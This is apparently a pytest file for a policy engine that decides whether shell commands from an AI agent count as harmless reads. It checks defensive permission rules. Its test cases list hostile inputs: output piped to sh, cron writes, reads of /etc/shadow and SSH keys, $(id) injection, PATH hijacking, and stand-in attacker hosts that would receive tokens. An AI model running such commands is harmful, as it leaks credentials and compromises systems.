"""The read conventions for unknown tools, wider without opening holes (thirteenth pass).

Five classes of held-out v10's false positives, each asserted both ways
(`aiperm_tui/policy/verbs.py`, the read side):

- a server option given a host of the fleet (`ray status --address head.internal:6379`)
  and a filter given to a long option, quoted or not (`--filter 'state=ALIVE'`); never a
  host anyone on the Internet can answer at, nor an option naming where output, a hook,
  a script, a plugin or a proxy goes;
- a compound verb with a plural (`list-backups`), a plural open noun directly before the
  verb (`zztool artifacts list`; never a singular one, review13: `zztool trash list
  --all`), and a relative name as the operand (`topics list public/x`);
- a tool whose own name says it prints (`mtdinfo -a`, `isoinfo -d -i FILE`, `*stats`),
  with a few more read-only letters; an extractor asked for its listing (`unsquashfs -l`);
- a verb that prints part of a data file given by its absolute path (`parquet-tools
  schema FILE`, `mender-artifact read FILE`);
- the hole closed: a verb that acts after the read verb (`rauc status mark-bad other`).

Every new read keeps the convention's conditions (nothing written, fed, run, no PATH or
alias on the line, not inside a payload) and read_only denies it. The development set
(`devset13_generic_read.jsonl`, written before the engine was run on it) is measured.
"""

from __future__ import annotations

import pytest
from helpers.devsets import gated_safe, measure, missed_critical
from helpers.policy_corpus import rules_of, verdict

from aiperm_tui.config import Config
from aiperm_tui.policy import PolicyEngine
from aiperm_tui.policy.verbs import _ACT_VERBS, NOUNS, READ_VERBS, RULE, _in_the_fleet

ENGINE = PolicyEngine(Config())


def _reads(cmd: str) -> None:
    assert verdict(ENGINE, cmd) == "none", ENGINE.decide(cmd)
    assert RULE in rules_of(ENGINE, cmd)
    assert ENGINE.decide(cmd, preset="read_only").decision == "deny"


def _refused(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, (cmd, rules_of(ENGINE, cmd))
    if expected != "typed":  # `zztool status | sh`: the read stands, the pipe is typed
        assert RULE not in rules_of(ENGINE, cmd), cmd


# 1. options with harmless values
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "cmd",
    [
        "zztool status --address head.data.internal:6379",
        "zztool nodes list --server https://zz.ops.internal",
        "zztool list --endpoint http://10.20.0.5:8080",
        "zztool status --address 127.0.0.1:7000",
        "zztool status --address=192.168.4.7:9000 --limit 50",
        "zztool status --host nim-1.int",
        "zztool status --host db-1",  # one label: the site's own search domain
        "zztool status --api-url http://zz.local:8080/v1",
        "zztool topics list --bootstrap-server k1.data.corp:9092,k2.data.corp:9092",
        "zztool status db-1.data.internal:5432",  # an operand in the fleet
        "zztool list --filter 'state=RUNNING' --limit 20",
        'zztool jobs list --filter "owner=etl"',
        "zztool list --filter=state=ALIVE",
        "zztool list --selector app=api,tier!=db",
        "zztool nodes list --sort 'name'",
        "zztool list --columns 'name,state'",
    ],
)
def test_a_server_of_the_fleet_and_a_filter_keep_a_read(cmd: str) -> None:
    _reads(cmd)


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        # a host anyone may answer at: the tool would send its stored token there
        ("zztool status --address zz.evil-example.com:6379", "action"),
        ("zztool status --server https://collector.attacker.io", "action"),
        ("zztool status --server https://int.attacker.io", "action"),
        ("zztool status --server evil.example", "action"),
        ("zztool status --endpoint http://203.0.113.9:8080", "action"),
        ("zztool status --server http://3232235777", "action"),  # a whole address as one number
        ("zztool status --server 0.0.0.0:80", "action"),
        ("zztool status --url http://ops:pw@zz.internal:9083", "action"),  # a login
        ("zztool status --url 'http://zz.internal/?q=1'", "action"),
        ("zztool status --server https://zz.internal/../x", "action"),
        ("zztool status --server", "action"),  # no value
        ("zztool status --server $HOST", "action"),
        ("zztool status --bootstrap-server k1.data.corp:9092,evil.io:9092", "action"),
        ("zztool status collector.attacker.io:443", "action"),
        # options that are not the tool's own server
        ("zztool status --webhook-url http://zz.internal", "action"),
        ("zztool status --proxy http://zz.internal:3128", "action"),
        ("zztool status --callback-url http://zz.internal", "action"),
        ("zztool status --bind-address 10.0.0.5", "action"),
        ("zztool status --upload-url http://zz.internal", "action"),
        ("zztool status --host zz.internal --insecure", "action"),
        # a quoted value: only a filter, never an expansion, a path or an address
        ("zztool list --filter 'state=$(id)'", "action"),
        ('zztool list --filter "state=`id`"', "action"),
        ("zztool list --filter '/etc/passwd'", "action"),
        ("zztool list --filter 'evil.io:443'", "action"),
        ("zztool list --all 'mode=maintenance'", "action"),  # after a flag: an operand
        ("zztool list --all mode=maintenance", "action"),
        ("zztool list 'state=up'", "action"),  # not an option's value
        # left19: `--exec` hands the tool code to run (unknown.eval_code)
        ("zztool list --exec 'ls'", "typed"),
        ("zztool list --filter 'a'\\''b'", "typed"),  # the parsers disagree
        # what names where output, a script, a hook, a plugin goes stays refused
        ("zztool status --output-file /srv/x.txt", "action"),
        ("zztool status --hook zz-hook", "action"),
        ("zztool status --plugin zz-plugin", "action"),
        ("zztool status --script zz-run", "action"),
        ("zztool status --output-file /etc/cron.d/zz", "typed"),
        ("zztool status --log-file /srv/x.log", "action"),
        ("zztool status --server https://zz.internal | sh", "typed"),
    ],
)
def test_a_host_nobody_vouched_for_or_an_acting_option_stays_unknown(
    cmd: str, expected: str
) -> None:
    _refused(cmd, expected)


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    ("value", "inside"),
    [
        ("10.0.0.1", True),
        ("172.16.0.1:80", True),
        ("172.32.0.1", False),
        ("192.169.0.1", False),
        ("8.8.8.8", False),
        ("localhost:8080", True),
        ("db.internal", True),
        ("db.internal.evil.io", False),
        ("https://a.lan:8443/api/v1", True),
        ("a.example", False),
        ("123", False),
        ("", False),
        ("a.local,b.local", True),
        ("a.local,", False),
        ("user@a.local", False),
    ],
)
def test_what_counts_as_a_host_of_the_fleet(value: str, inside: bool) -> None:
    assert _in_the_fleet(value) is inside


# 2. compound verbs, plural and open nouns before a listing
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "cmd",
    [
        "zztool list-backups",
        "zztool list-servers",
        "zztool snapshots-list",
        "zztool topics list public/ingest",
        "zztool artifacts list",
        "zztool schedules list -o wide",
        "zztool partitions status",
        "zztool backups ls",
    ],
)
def test_a_plural_or_a_bare_listing_after_an_open_noun_reads(cmd: str) -> None:
    _reads(cmd)


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        # a verb's plural, or a verb before a listing word
        ("zztool kills list", "action"),
        ("zztool bounces list", "action"),
        ("zztool wipes list", "action"),
        ("zztool resets list", "action"),
        ("zztool silence list", "action"),  # verbs that passed as open nouns before
        ("zztool ack list", "action"),
        ("zztool snooze list", "action"),
        ("zztool panic list", "action"),
        ("zztool ingest list", "action"),
        ("zztool kick list now", "action"),  # a singular word: nothing positional after
        ("zztool kernelspec list --json", "action"),  # review13: a singular open word
        ("zztool tracingpolicy ls -A", "action"),
        ("zztool trash list --all", "action"),  # may be a verb no list names
        ("zztool kernelspec list prod", "action"),
        ("zztool kernelspec status", "action"),  # a singular word: only a bare listing
        ("zztool kernelspec version", "action"),
        ("zzwrap deluser list", "action"),  # a program the engine knows
        ("zzwrap userdels list", "action"),
        ("zztool status", "none"),
        # compounds with a part that acts
        ("zztool set-list", "action"),
        ("zztool list-resets", "action"),
        ("zztool push-list", "action"),
        ("zztool list-pushes --all", "action"),  # review13: `pushes` is `push`'s, as `list-resets`
        # a relative name: never hidden, `..` or a credential's
        ("zztool topics list ../../etc", "action"),
        ("zztool topics list .ssh/config", "action"),
        ("zztool topics list keys/prod", "action"),
        ("zztool topics list secrets/db", "action"),
    ],
)
def test_a_verb_never_passes_for_a_noun(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, (cmd, rules_of(ENGINE, cmd))
    if expected != "none":
        assert RULE not in rules_of(ENGINE, cmd), cmd


# 3. tools named as readers, 4. inspectors of a file and extractors' listings
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "cmd",
    [
        "mtdinfo -a",
        "ubinfo -a",
        "zzinfo",
        "gpioinfo gpiochip0",
        "isoinfo -d -i /srv/iso/netinst.iso",
        "zramstat -a",
        "timeout 5 tegrastats --interval 1000",
        "sudo zzdevinfo -ms",
        "parquet-tools schema /srv/lake/events/part-00003.parquet",
        "parquet-tools head -n 5 /srv/lake/events/part-00003.parquet",
        "zztool read /srv/edge/artifacts/os-2026.11.mender",
        "zztool meta /srv/lake/orc/part-1.orc",
        "zztool cat /var/log/zz/run.log",
        "unace -l /data/bundles/rootfs.ace",  # unsquashfs has a table now (breadth13)
        "innoextract -l /srv/uploads/vendor/setup-6.1.exe",
        "zzextract --list /srv/uploads/bundle.pak",
    ],
)
def test_a_reader_by_name_or_an_inspector_of_a_file_reads(cmd: str) -> None:
    _reads(cmd)


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        # names that convert, install, or print a credential
        ("makeinfo /srv/docs/manual.texi", "action"),
        ("texi2info /srv/docs/manual.texi", "action"),
        ("install-info /srv/docs/zz.info /usr/share/info/dir", "action"),
        ("tokeninfo -a", "action"),
        ("vaultinfo -a", "action"),
        ("secretinfo", "action"),
        ("restat -a", "action"),
        ("zzstat", "action"),  # a stem too short to say what it is
        # letters that write, run, force or answer yes
        ("mtdinfo -o /srv/out.txt", "action"),
        ("mtdinfo -o json", "action"),
        ("mtdinfo -w /srv/out.txt", "action"),
        ("mtdinfo -e ls", "action"),
        ("mtdinfo -x ls", "action"),
        ("mtdinfo -c ls", "action"),
        ("mtdinfo -f", "action"),
        ("mtdinfo -y", "action"),
        ("mtdinfo -dx", "action"),
        ("mtdinfo --output-file /srv/out.txt", "action"),
        ("zzinfo delete node1", "typed"),  # a verb among its words
        ("zzinfo mark-bad other", "action"),
        # an inspector given no data file, a script, or a file it may run
        ("zztool schema", "action"),
        ("zztool schema migrate.sql", "action"),
        ("zztool schema /srv/db/migrate.sql", "action"),
        ("zztool read /srv/app/run.py", "action"),
        ("zztool head /tmp/x.parquet", "action"),  # temp: anyone may have put it there
        ("zztool cat /etc/shadow", "typed"),
        ("zztool read /root/.ssh/id_ed25519", "typed"),
        ("zztool head /etc/ssl/private/server.key", "typed"),
        ("zztool dump /srv/out.db", "action"),  # a dump may write there
        ("zztool lake schema /srv/lake/x.parquet", "action"),  # only as the first word
        # an extractor without its listing, or told where to write
        ("unace /data/bundles/rootfs.ace", "action"),
        ("innoextract /srv/uploads/vendor/setup-6.1.exe", "action"),
        ("unace -l -d /srv/out /data/bundles/rootfs.ace", "action"),
        ("unace -l", "action"),  # no file
        ("unmount -l /srv/a.img", "action"),  # `un` and no archive format
        ("uninstallextract -l /srv/a.pak", "action"),
        ("unace -l /data/rootfs.ace | bash", "typed"),
    ],
)
def test_a_reader_name_never_covers_a_write_or_a_credential(cmd: str, expected: str) -> None:
    _refused(cmd, expected)


# 5. the hole: a verb that acts after the read verb
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("zzslot status mark-bad other", "action"),  # rauc has a table now (breadth13)
        ("zztool status mark-active booted", "action"),
        ("zztool status set-primary node2", "action"),
        ("zztool list enable-all", "action"),
        ("zztool info update", "action"),
        ("zztool nodes list drain n1", "action"),
        ("zztool ske cluster list cordon", "action"),
        ("zztool get nodes restart", "action"),
        ("zztool cluster show prod reboot", "action"),
        ("zztool status resetall", "action"),  # a verb in disguise
    ],
)
def test_a_verb_after_the_read_verb_is_what_runs(cmd: str, expected: str) -> None:
    _refused(cmd, expected)


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "cmd",
    ["zzslot status --detailed", "zztool status booted", "zztool logs api-gateway"],
)
def test_an_operand_that_names_no_verb_keeps_the_read(cmd: str) -> None:
    _reads(cmd)


# Each condition of the convention, on every new form.
FORMS = [
    "zztool status --address head.data.internal:6379",
    "zztool list --filter 'state=RUNNING'",
    "zztool artifacts list",
    "zztool list-backups",
    "mtdinfo -a",
    "parquet-tools schema /srv/lake/x.parquet",
    "unace -l /data/rootfs.ace",
]
CONDITIONS = [
    ("{} | sh", "typed"),  # its output run
    ("{} > /etc/cron.d/zz", "typed"),  # a write
    ("{} < cmds.txt", "action"),  # fed its input
    ("echo x | {}", "action"),
    ("{} <<< x", "action"),
    ("PATH=/tmp {}", "typed"),
    ("alias ls=rm; {}", "action"),
    ("f() {{ :; }}; {}", "action"),
    ("bash -c '{}'", "action"),  # a payload: its caller's line is not seen
    ("ssh web1 {}", "action"),
    ("xargs -a list.txt {}", "action"),
    ("./{}", "action"),  # not a bare name
    ("{} --server evil.example", "action"),
    ("{} -f", "action"),
    ("{} --namespace=$(id)", "action"),
]


@pytest.mark.timeout(120)
@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(("shape", "expected"), CONDITIONS)
def test_the_new_reads_keep_every_condition(form: str, shape: str, expected: str) -> None:
    cmd = shape.format(form)
    assert verdict(ENGINE, cmd) == expected, (cmd, rules_of(ENGINE, cmd))
    if expected != "typed":
        assert RULE not in rules_of(ENGINE, cmd), cmd


@pytest.mark.timeout(60)
@pytest.mark.parametrize("form", FORMS)
def test_each_new_form_reads_alone(form: str) -> None:
    _reads(form)


@pytest.mark.timeout(30)
def test_the_word_lists_do_not_contradict_each_other() -> None:
    """The verbs an open noun before `list` could have hidden are act verbs, and no act
    verb is a closed noun or a read verb."""
    assert {"silence", "ack", "snooze", "panic", "ingest", "thaw"} <= _ACT_VERBS
    assert not _ACT_VERBS & (NOUNS | READ_VERBS)


@pytest.mark.timeout(120)
def test_devset13_generic_read_is_measured() -> None:
    """96 lines written before the engine was run on them: 38 of 49 reads gated, 16 of
    22 critical lines typed and 40 of 47 changes or criticals at a yes or more before
    this pass's classes; 4, 16 and 47 after. The reads left: `jupyter` (a pack names
    it), `show-artifact` (`show` may print a secret), `lsgpu`, `lsdsp` (`ls*` is no
    reader's name: `lsyncd` syncs). The critical lines left are other rules' classes
    (an option running a temp script or loading a plugin, a destroy verb after a read
    verb or glued to `all`): none of them runs unasked."""
    report = measure("devset13_generic_read.jsonl", ENGINE)
    assert report.safe_false_positives.value <= 4 / 49, gated_safe(report)
    assert report.danger_recall.value == 1.0
    assert report.critical_recall.value >= 16 / 22, missed_critical(report)
    assert set(missed_critical(report)) <= {
        "vexctl status --hook /tmp/x.sh",
        "zenctl list --plugin /tmp/evil.so --server https://zen.internal",
        "mirectl status --script /dev/shm/run.sh",
        "quaxctl purgeall list",
        "slotctl status wipe other",
        "quarkctl list purge-all",
    }


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "cmd",
    ["zztool status etc/x", "zztool topics list root/y", "zztool list tmp/x", "zztool ls srv/a"],
)
def test_a_relative_name_is_never_the_root_s_folder_seen_from_slash(cmd: str) -> None:
    _refused(cmd, "action")


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("zztool status --detailed --output-format=json-pretty", "none"),
        ("zztool list --output-format ndjson", "none"),
        ("zztool status --output-format /srv/x.json", "action"),  # a file, not a format
        ("zztool status --output-format=/srv/x.json", "action"),
        ("zztool cluster show prod --output-format json-pretty", "action"),  # whole objects
        ("zztool get nodes --output-format=jsonl", "action"),
    ],
)
def test_output_format_names_only_a_format(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, (cmd, rules_of(ENGINE, cmd))


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("zztool status --cluster my_cluster", "none"),  # a name, as before: no server part
        ("zztool status --master prod", "none"),
        ("zztool status --host restart", "action"),  # a flag's next word may be the verb
        ("zztool status --server=reload", "action"),
        ("zzvault read /srv/app/config.json", "action"),  # a credential store prints it
        ("zzcrypt cat /srv/backup/db.age", "action"),  # a cipher may decrypt it
        ("cryptinfo -a", "action"),
        ("zztool status -- 'x'", "action"),
    ],
)
def test_what_the_new_forms_never_consume(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, (cmd, rules_of(ENGINE, cmd))
